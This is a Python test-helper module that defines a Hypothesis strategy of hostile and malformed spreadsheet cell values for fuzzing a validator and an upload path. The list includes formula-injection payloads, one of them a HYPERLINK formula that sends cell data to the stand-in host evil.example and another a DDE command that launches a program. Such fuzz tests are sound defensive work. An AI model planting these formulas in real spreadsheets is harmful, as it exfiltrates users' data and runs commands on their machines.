"""Hostile cell values and the shape of a problem line, shared by the validator and upload fuzz tests."""

from __future__ import annotations

import re

from hypothesis import strategies as st

PROBLEM_LINE = re.compile(r"(?P<file>[^\n:]+):(?P<line>\d+): (?P<column>[^\n]+?): (?P<message>[^\n]+)")

# Text a hostile or careless contributor might put in a cell.
NASTY = st.sampled_from([
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
    "\tleading tab", "\rcarriage", "a\nb", 'say "hi"', '"', "\x00", "\u202e\u0645\u0631\u062d\u0628\u0627",
    "\u0661\u0662\u0663", "1_000", "nan", "inf", "1e400", "-0", "9" * 40, "\ufeff", "\u200f", "ﷺ",
    "أكثر من ٢٠٠ اجتماع", "ثلاثة وعشرون", "2017-02-30", "0000-00-00", "x" * 200_000, "", " ",
])
CELL = st.one_of(NASTY, st.text(max_size=40))
